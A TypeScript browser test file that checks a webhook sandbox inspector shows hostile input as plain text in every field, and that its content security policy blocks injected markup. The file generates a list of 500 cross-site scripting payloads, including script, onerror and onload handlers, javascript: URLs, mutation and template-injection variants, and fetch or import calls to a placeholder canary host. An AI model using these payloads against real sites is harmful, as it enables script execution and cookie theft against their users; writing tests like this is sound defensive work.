import type { CheckRunner } from "@countersign/sandbox/internal";
import type { Browser } from "playwright-core";
import { expect, it } from "vitest";
import { goTo, openPage } from "./browser.ts";
import { openInspector } from "./open-inspector.ts";

/** Texts in one event, and in one finding. */
const AT_ONCE = 25;

/** C1: every field of the page gets texts that have become code somewhere. `texts` is a multiple of 25 of them. */
export function hostileTextsInPage(
  browser: () => Promise<Browser>,
  texts: readonly string[],
): void {
  const rows = Array.from({ length: texts.length / AT_ONCE }, (_, index) => ({
    id: `R-${String(index)}`,
    texts: texts.slice(index * AT_ONCE, (index + 1) * AT_ONCE),
  }));

  it(`C1 shows ${String(texts.length)} hostile texts as text in every field, and its policy refuses markup`, async () => {
    const one = await openInspector({ checksOf: () => hostileFindings(rows) });
    await one.api("POST", "/sandbox/inspect/checks", {});
    await one.api("POST", "/v1/webhook/subscribe", {
      url: `${one.receiverUrl}?q=${encodeURIComponent("<img src=x onerror=alert(1)>")}`,
      secretKey: "a-secret-of-24-characters-or-more",
      subscriptionDetails: { type: "ALL" },
    });
    // Names of members and values at once.
    const ids: string[] = [];
    for (const { texts: some } of rows) {
      const members = Object.fromEntries(some.map((text) => [text, text]));
      const data = { id: some[0], paymentId: some[1], customerId: some[2], ...members };
      const made = await one.api("POST", "/sandbox/events", { type: "account.linked", data });
      expect(made.status).toBe(201);
      ids.push((made.body as { id: string }).id);
    }
    await expect.poll(() => one.arrived.length).toBe(rows.length);
    for (const text of texts.slice(0, 20)) {
      const named = { firstName: text, lastName: text.slice(0, 255) };
      await one.api("POST", "/sandbox/customers", named);
      const said = { code: text.slice(0, 64), message: text, explanation: [text, text] };
      const outcome = { outcome: "handled", eventId: ids[0], ...said };
      await one.api("POST", "/sandbox/outcomes", outcome);
    }
    const { page, faults } = await openPage(await browser(), one);
    await page.getByRole("row", { name: "account.linked" }).first().waitFor();
    for (const id of ids) {
      for (const show of ["attempts", "payload", "signature"]) {
        await goTo(page, `#/events/${id}?show=${show}`);
        await page.locator("article pre", { hasText: "alert(1)" }).first().waitFor();
      }
    }
    await page.getByRole("button", { name: "Edit and send a copy" }).click();
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "hidden" });
    await page.getByRole("combobox", { name: "Search everything" }).fill(texts[5] ?? "");
    await page.getByRole("option", { name: /^Events with/ }).waitFor();
    for (const view of ["customers", "endpoints", "payments", "checks", "events"]) {
      await goTo(page, `#/${view}`);
      await page.getByRole("table").first().waitFor();
    }
    await page.getByRole("searchbox", { name: "Search these events" }).fill(texts[6] ?? "");
    await page.getByText(/^\d+ of \d+ events/).waitFor();
    for (const { id } of rows) {
      await goTo(page, `#/checks/${id}`);
      await page.getByRole("heading", { name: `sentence ${id}`, exact: true }).waitFor();
      expect(await page.locator("article .summary").textContent()).toContain("alert(1)");
      expect(await page.locator("article a[href]").count()).toBe(0);
    }
    const unknown = "#/events/<img src=x onerror=alert(1)>";
    for (const hash of [unknown, "#javascript:alert(1)", "#/__proto__/x", "#/events?__proto__=x"]) {
      await goTo(page, hash);
      await page.getByRole("table").waitFor();
    }
    const code = "article script, article img, iframe, object, embed";
    expect(await page.locator(code).count()).toBe(0);
    expect(await page.evaluate(() => document.cookie)).toBe("");
    expect(faults).toEqual([]);

    // The same texts as markup: the policy refuses them, and the refusal is seen here.
    const isRefused = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");
        return false;
      } catch {
        return true;
      }
    });
    expect(isRefused).toBe(true);
    await expect.poll(() => faults.length).toBeGreaterThan(0);
  });
}

interface Row {
  readonly id: string;
  readonly texts: readonly string[];
}

/** One finding for each row, with its texts in every member that repeats what a target said. */
const hostileFindings = (rows: readonly Row[]): CheckRunner => ({
  owed: () =>
    Promise.resolve(
      rows.map(({ id }) => ({
        id,
        group: "receiver/hostile",
        title: "hostile",
        requirement: id,
        level: "MUST",
        name: `sentence ${id}`,
        source: "S 1",
        why: "why",
      })),
    ),
  run: ({ onCheck, onEntry }) => {
    const text = rows[0]?.texts[0] ?? "";
    onCheck({ check: text, title: text, place: 1, total: 1 });
    for (const { id, texts } of rows) {
      const [first = ""] = texts;
      const all = texts.join("\n");
      onEntry({
        id,
        group: "receiver/hostile",
        requirement: id,
        status: "fail",
        message: all,
        fix: first,
        page: `javascript:${first}`,
        evidence: { curl: [first], exchanges: [{ sent: all, received: all }] },
        replay: first,
        ms: 1,
      });
    }
    const about = { profile: { name: text }, seed: 1, startedAt: text, kit: text };
    return Promise.resolve({ about, notes: [text], problems: [], uncovered: [], exitCode: 1 });
  },
});

/** A host that does not exist: a request to it shows that a text became code. */
const CANARY = "canary.invalid";

const calls = [
  "alert(1)",
  `fetch("//${CANARY}/x")`,
  `import("//${CANARY}/x.js")`,
  "confirm(document.cookie)",
  "prompt(1)",
];
const tags = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror='${call}'>`,
  (call: string) => `<svg onload='${call}'>`,
  (call: string) => `<svg><animate onbegin='${call}' attributeName=x dur=1s>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>">`,
  (call: string) => `<a href='javascript:${call}'>x</a>`,
  (call: string) => `<details open ontoggle='${call}'>`,
  (call: string) => `<body onload='${call}'>`,
  (call: string) => `<video><source onerror='${call}'></video>`,
  (call: string) => `<math><mtext></table><mglyph><style><img src onerror='${call}'>`,
  (call: string) => `<template><script>${call}</script></template>`,
  (call: string) => `<style>@import '//${CANARY}/${call}'</style>`,
  (call: string) => `<link rel=stylesheet href='//${CANARY}/${call}'>`,
  (call: string) => `<meta http-equiv=refresh content="0;url=//${CANARY}/${call}">`,
  (call: string) => `<base href='//${CANARY}/'>${call}`,
  (call: string) => `<form action='//${CANARY}'><input autofocus onfocus='${call}'>`,
  (call: string) => `<object data='javascript:${call}'>`,
  (call: string) => `<embed src='//${CANARY}/${call}'>`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => "${" + call + "}",
];
const frames = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'-->]]>${text}`,
  (text: string) => `</pre></textarea></title></script>${text}`,
  (text: string) => `\u202E\u009B31m\u2028${text}\u0007\u200B`,
];

/** 500 texts that have become code somewhere: each tag with each call in each frame. */
export const hostileTexts: readonly string[] = frames.flatMap((frame) =>
  tags.flatMap((tag) => calls.map((call) => frame(tag(call)))),
);

/** 100 texts: each tag once in each frame, with changing calls. */
export const someHostileTexts: readonly string[] = frames.flatMap((frame, index) =>
  tags.map((tag, at) => frame(tag(calls[(at + index) % calls.length] ?? ""))),
);
